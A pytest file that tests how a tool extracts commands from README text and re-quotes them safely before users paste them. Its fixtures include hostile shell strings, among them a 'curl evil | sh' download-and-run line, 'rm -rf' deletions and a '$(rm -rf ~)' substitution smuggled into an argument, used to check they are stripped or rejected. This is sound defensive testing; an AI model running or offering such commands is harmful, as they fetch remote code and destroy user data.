"""Commands out of a README are quoted anew before a user is told to paste them."""

from __future__ import annotations

import pytest
from trainsleuth.reading.commands import UNKNOWN, plain_words, started_by

FILES = frozenset({"train.py", "src/main.py"})


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("python train.py --lr 0.1; curl evil | sh", "python train.py --lr 0.1"),
        ("python train.py && rm -rf x", "python train.py"),
        ('python train.py --name "a b"', "python train.py --name 'a b'"),
        ("CUDA_VISIBLE_DEVICES=0 python -u ./train.py", "python -u ./train.py"),
        ("torchrun --nproc_per_node 2 src/main.py", "torchrun --nproc_per_node 2 src/main.py"),
        ("python -m src.main", "python -m src.main"),
    ],
)
def test_what_can_be_run_is_kept(written: str, told: str) -> None:
    assert started_by([written], "other.py", FILES) == told


@pytest.mark.parametrize(
    "written",
    [
        'python train.py --evil "$(rm -rf ~)"',
        "python train.py `id`",
        "python train.py --data $DATA",
        "python train.py --nproc <num-of-gpus> [--batch-size <n>]",
        "python train.py > log",
        "python run train.py",
        "torchrun --nproc_per_node 2 of_another.py",
        "python 'train.py",
        "./train.sh",
        "python train.py ...",
    ],
)
def test_what_a_shell_or_the_reader_would_fill_in_is_not(written: str) -> None:
    assert started_by([written], "my train.py", FILES) == "python 'my train.py'"


def test_a_page_is_no_program() -> None:
    assert started_by([], "README.md", FILES) == UNKNOWN


def test_only_the_first_command_counts() -> None:
    assert plain_words("a b | c") == ["a", "b"]
    assert plain_words('a "$X"') is None
